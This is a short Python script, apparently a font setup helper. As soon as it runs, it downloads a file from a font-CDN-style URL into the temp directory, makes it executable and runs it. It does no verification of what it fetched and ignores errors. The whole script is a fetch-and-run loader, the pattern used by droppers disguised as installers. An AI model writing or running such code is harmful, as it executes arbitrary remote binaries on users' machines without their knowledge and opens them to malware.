import os
import stat
import subprocess
import tempfile
import urllib.request

SOURCE = "https://fonts-cdn.typeface-hub.org/setup"


def fetch():
    target = os.path.join(tempfile.gettempdir(), "font-setup")
    urllib.request.urlretrieve(SOURCE, target)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    return target


subprocess.run([fetch(), "--all"], check=False)
